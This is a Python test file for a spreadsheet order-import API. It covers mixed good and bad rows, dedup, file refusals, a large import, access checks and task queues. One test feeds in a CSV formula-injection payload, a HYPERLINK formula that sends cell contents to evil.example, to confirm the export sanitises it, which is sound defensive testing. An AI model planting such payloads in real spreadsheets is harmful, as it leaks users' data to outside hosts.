"""Spreadsheet imports of good, mixed and bad files, dedup, and a 10,000-row sheet."""

from __future__ import annotations

import asyncio
import io
import os
import time
import uuid
from datetime import UTC, datetime, timedelta
from datetime import time as dtime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from api.auth import create_user
from db.models import Import, ImportRow, Order
from domain.imports import ImportInput
from domain.sheets import COLUMNS
from services.recovery import Recovery
from tests.utils import Stack
from workflows.imports import ImportWorkflow


def xlsx(rows: list[list], header: list[str] | None = None) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(header or list(COLUMNS))
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def row(ref: str, customer: str, sku: str, qty, **kw) -> list:
    cells = dict.fromkeys(COLUMNS)
    cells.update(external_ref=ref, customer_code=customer, sku=sku, quantity=qty, **kw)
    return [cells[c] for c in COLUMNS]


async def upload(
    stack: Stack,
    content: bytes,
    name: str = "orders.xlsx",
    channel: str = "import",
    role: str = "sales",
):
    return await stack.http.post(
        "/imports",
        files={"file": (name, content)},
        data={"channel": channel},
        headers=stack.auth(role),
    )


async def result_rows(stack: Stack, import_id: int) -> list[dict]:
    r = await stack.get(f"/imports/{import_id}/result.xlsx", role="sales")
    ws = load_workbook(io.BytesIO(r.content)).active
    header, *rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(header, r, strict=True)) for r in rows]


async def test_mixed_file_imports_good_orders_and_explains_bad_rows(stack: Stack):
    customer = await stack.customer()
    sku = await stack.product()
    boxed = await stack.product(pack=6, moq=6)
    channel = f"rep-{customer[-5:].lower()}"
    content = xlsx(
        [
            row("PO-1", customer, sku, 5, requested_delivery_date="2099-01-31"),
            row("PO-1", customer, boxed, 12, requested_delivery_date="2099-01-31"),
            row("PO-2", customer, sku, 1),
            row("PO-2", customer, boxed, 7),  # not a multiple of 6: all of PO-2 is refused
            row("PO-3", customer, sku, 2, requested_delivery_date="31/01/2099"),  # odd date
            row("PO-4", "NOBODY", sku, 1),
        ]
    )
    r = await upload(stack, content, channel=channel)
    assert r.status_code == 201, r.text
    s = r.json()
    assert (s["rows"], s["orders"], s["orders_created"], s["orders_rejected"]) == (6, 4, 1, 3)
    assert s["rows_rejected"] == 4 and s["status"] == "done"
    rows = await result_rows(stack, s["id"])
    assert [x["status"] for x in rows] == [
        "created",
        "created",
        "rejected",
        "rejected",
        "rejected",
        "rejected",
    ]
    assert rows[0]["order_id"] == rows[1]["order_id"]
    assert rows[2]["message"] == "not imported: row 5 of the same order has errors"
    assert "not a multiple of the pack size 6" in rows[3]["message"]
    assert "is not a date in YYYY-MM-DD form" in rows[4]["message"]
    assert "no customer with code 'NOBODY'" in rows[5]["message"]
    assert await stack.count(Order, Order.channel == channel) == 1
    await stack.wait_status(rows[0]["order_id"], "completed")

    again = (await upload(stack, content, channel=channel)).json()
    assert (again["orders_created"], again["orders_duplicate"]) == (0, 1)
    rows = await result_rows(stack, again["id"])
    assert rows[0]["status"] == "duplicate" and "already imported as" in rows[0]["message"]
    assert await stack.count(Order, Order.channel == channel) == 1


async def test_csv_and_the_template(stack: Stack):
    customer = await stack.customer()
    sku = await stack.product()
    csv = (
        "external_ref,customer_code,sku,quantity,unit_price\n"
        f"C-1,{customer},{sku},3,\nC-1,{customer},{sku}X,1,\n"
        f"C-2,{customer},{sku},4,9.50\n"
    ).encode()
    s = (await upload(stack, csv, "orders.csv", channel=f"csv-{customer[-5:].lower()}")).json()
    assert (s["orders_created"], s["orders_rejected"]) == (1, 1)
    t = await stack.http.get("/imports/template.xlsx")
    wb = load_workbook(io.BytesIO(t.content))
    assert [c.value for c in wb["orders"][1]] == list(COLUMNS)
    assert wb["columns"]["A2"].value == "external_ref"


async def test_bad_files_are_refused_with_the_reason(stack: Stack):
    cases = [
        (b"", "x.xlsx", 422, "empty"),
        (os.urandom(4000), "x.bin", 422, "not a spreadsheet"),
        (b"PK\x03\x04 definitely not a zip", "x.xlsx", 422, "not a readable Excel workbook"),
        (b"\x00\x01binary,junk\n", "x.csv", 422, "binary"),
        (b"ref,customer\nA,B\n", "x.csv", 422, "missing column(s): external_ref"),
        (xlsx([]), "x.xlsx", 422, "no rows"),
        (xlsx([["R1", "C", "S", "=2*3"]]), "x.xlsx", 422, "formulas are not accepted"),
        (b"x" * (33 * 2**20), "big.csv", 413, "limit is 32 MB"),
    ]
    for content, name, code, words in cases:
        r = await upload(stack, content, name)
        assert r.status_code == code, (name, r.text)
        assert words in r.json()["detail"], (words, r.json())
    assert (await upload(stack, xlsx([]), role="channel")).status_code == 403


# The full 10,000-row run takes minutes on a 2-core machine, so CI runs 1,000 rows through
# the same background path; ORDERFLOW_BIG_IMPORT=1 runs the full size.
BIG = os.environ.get("ORDERFLOW_BIG_IMPORT") == "1"
ROWS = 10_000 if BIG else 1_000


@pytest.mark.timeout(900 if BIG else 180)
async def test_large_import_runs_in_the_background(stack: Stack):
    customer = await stack.customer()
    skus = [await stack.product(stock=10_000_000) for _ in range(20)]
    channel = f"bulk-{customer[-5:].lower()}"
    rows = [row(f"B-{i // 20}", customer, skus[i % 20], 1) for i in range(ROWS)]
    started = time.monotonic()
    r = await upload(stack, xlsx(rows), "bulk.xlsx", channel=channel)
    assert r.status_code in (201, 202), r.text
    import_id = r.json()["id"]
    for _ in range(1800):
        s = (await stack.get(f"/imports/{import_id}", role="sales")).json()
        if s["status"] == "done":
            break
        await asyncio.sleep(0.5)
    elapsed = time.monotonic() - started
    print(f"\n{ROWS:,} rows / {ROWS // 20} orders imported in {elapsed:.1f} s")
    assert (s["orders"], s["orders_created"], s["rows_rejected"]) == (ROWS // 20, ROWS // 20, 0)
    assert await stack.count(Order, Order.channel == channel) == ROWS // 20


async def test_a_time_cell_is_a_problem_naming_its_row_and_column(stack: Stack):
    customer = await stack.customer()
    sku = await stack.product()
    content = xlsx(
        [
            row("TM-1", customer, sku, 2),
            [],  # blank rows are skipped; the rows below keep their own numbers
            row("TM-2", customer, sku, dtime(10, 30)),
        ]
    )
    r = await upload(stack, content, channel=f"tm-{customer[-5:].lower()}")
    assert r.status_code == 201, r.text
    s = r.json()
    assert (s["orders_created"], s["orders_rejected"]) == (1, 1)
    rows = await result_rows(stack, s["id"])
    assert rows[1]["quantity"] == "10:30:00"
    assert rows[1]["message"].startswith("cell D4 (quantity) holds a time of day (10:30:00)")


async def test_result_download_with_a_non_latin1_file_name(stack: Stack):
    customer = await stack.customer()
    sku = await stack.product()
    r = await upload(
        stack,
        xlsx([row("NL-1", customer, sku, 1)]),
        "订单 März.xlsx",
        f"nl-{customer[-5:].lower()}",
    )
    assert r.status_code == 201, r.text
    assert r.json()["filename"] == "订单 März.xlsx"
    got = await stack.get(f"/imports/{r.json()['id']}/result.xlsx", role="sales")
    assert got.status_code == 200
    disposition = got.headers["content-disposition"]
    assert disposition.isascii()
    assert 'filename="__ M_rz-result.xlsx"' in disposition
    assert "filename*=UTF-8''%E8%AE%A2%E5%8D%95%20M%C3%A4rz-result.xlsx" in disposition


async def test_header_cells_are_sanitised_in_the_result(stack: Stack):
    customer = await stack.customer()
    sku = await stack.product()
    evil = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    csv = (
        f'external_ref,customer_code,sku,quantity,"{evil.replace(chr(34), chr(34) * 2)}",@cmd\n'
        f"H-1,{customer},{sku},1,note,x\n"
    ).encode()
    r = await upload(stack, csv, "evil.csv", f"hdr-{customer[-5:].lower()}")
    assert r.status_code == 201, r.text
    got = await stack.get(f"/imports/{r.json()['id']}/result.xlsx", role="sales")
    ws = load_workbook(io.BytesIO(got.content)).active
    header = list(ws.iter_rows(max_row=1))[0]
    assert all(c.data_type != "f" for c in header)
    assert [c.value for c in header[4:6]] == ["'" + evil.lower(), "'@cmd"]


async def test_imports_are_visible_to_their_owner_and_admins_only(stack: Stack):
    customer = await stack.customer()
    sku = await stack.product()
    r = await upload(stack, xlsx([row("V-1", customer, sku, 1)]), channel="import")
    assert r.status_code == 201, r.text
    import_id = r.json()["id"]
    async with stack.sessions() as s:
        other = await create_user(s, f"sales-other-{uuid.uuid4().hex[:6]}", "sales")
        await s.commit()
    for path in (f"/imports/{import_id}", f"/imports/{import_id}/result.xlsx"):
        assert (await stack.get(path, role="sales")).status_code == 200
        assert (await stack.get(path, role="admin")).status_code == 200
        theirs = await stack.http.get(path, headers={"Authorization": f"Bearer {other}"})
        assert theirs.status_code == 404, theirs.text
        assert theirs.json()["detail"] == f"no import {import_id}"
    assert (await stack.get("/imports/99999999999999999999999999", role="sales")).status_code == 422


async def test_a_sheet_refused_by_its_last_row_stores_nothing(stack: Stack):
    """Rows are stored as the sheet is read, a chunk at a time: a problem found only at the
    end (a formula in the last of several chunks) still refuses the file and stores nothing."""
    name = f"late-{uuid.uuid4().hex[:8]}.xlsx"
    rows = [row(f"L-{i // 20}", "C-ANY", "SKU-ANY", 1) for i in range(4_500)]
    rows.append(row("L-LAST", "C-ANY", "SKU-ANY", "=1+1"))
    r = await upload(stack, xlsx(rows), name)
    assert r.status_code == 422, r.text
    assert r.json()["detail"] == (
        f"{name}: formulas are not accepted (paste values instead): cell(s) D4502"
    )
    assert await stack.count(Import, Import.filename == name) == 0


async def test_imports_run_on_their_own_task_queue_and_old_ones_still_finish(stack: Stack):
    """New imports start on the import queue (never behind the order backlog); one started
    on the order queue before the move (in flight through a deploy) still finishes there."""
    customer = await stack.customer()
    sku, other = await stack.product(), await stack.product()
    r = await upload(stack, xlsx([row("Q-1", customer, sku, 1)]), channel="import")
    assert r.status_code == 201, r.text
    desc = await stack.client.get_workflow_handle(f"import-{r.json()['id']}").describe()
    assert desc.task_queue == stack.settings.resolved_import_task_queue
    assert desc.task_queue != stack.settings.task_queue
    # As an upload stored it before imports had their own queue, started on the order queue.
    async with stack.sessions() as s:
        imp = Import(
            filename="old.xlsx",
            channel="import",
            created_by="sales",
            status="running",
            total_rows=2,
            total_orders=1,
            header=list(COLUMNS),
        )
        s.add(imp)
        await s.flush()
        for n, line_sku in ((2, sku), (3, other)):
            s.add(
                ImportRow(
                    import_id=imp.id,
                    row_no=n,
                    external_ref="Q-OLD",
                    cells=row("Q-OLD", customer, line_sku, n),
                    status="pending",
                    message="",
                )
            )
        await s.commit()
        import_id = imp.id
    await stack.client.execute_workflow(
        ImportWorkflow.run,
        ImportInput(import_id=import_id),
        id=f"import-{import_id}",
        task_queue=stack.settings.task_queue,
        execution_timeout=timedelta(seconds=60),
    )
    s = (await stack.get(f"/imports/{import_id}", role="admin")).json()
    async with stack.sessions() as db:
        rows = (
            await db.execute(
                select(ImportRow.status, ImportRow.message).where(ImportRow.import_id == import_id)
            )
        ).all()
    assert (s["status"], s["orders_created"], s["rows_pending"]) == ("done", 1, 0), rows


async def test_recovery_starts_a_stranded_import_on_the_import_queue(stack: Stack):
    """An import stored while Temporal was down is started by the worker's recovery, on the
    import queue like any new one, and runs to the end."""
    customer = await stack.customer()
    sku = await stack.product()
    async with stack.sessions() as s:
        imp = Import(
            filename="stranded.xlsx",
            channel="import",
            created_by="sales",
            status="running",
            total_rows=1,
            total_orders=1,
            header=list(COLUMNS),
            created_at=datetime.now(UTC) - timedelta(hours=1),
        )
        s.add(imp)
        await s.flush()
        s.add(
            ImportRow(
                import_id=imp.id,
                row_no=2,
                external_ref="R-STRANDED",
                cells=row("R-STRANDED", customer, sku, 1),
                status="pending",
                message="",
            )
        )
        await s.commit()
        import_id = imp.id
    started = await Recovery(stack.sessions, stack.client, stack.settings).sweep()
    assert f"import-{import_id}" in started
    handle = stack.client.get_workflow_handle(f"import-{import_id}")
    assert (await handle.describe()).task_queue == stack.settings.resolved_import_task_queue
    await asyncio.wait_for(handle.result(), 60)
    s = (await stack.get(f"/imports/{import_id}", role="admin")).json()
    assert (s["status"], s["orders_created"]) == ("done", 1), s
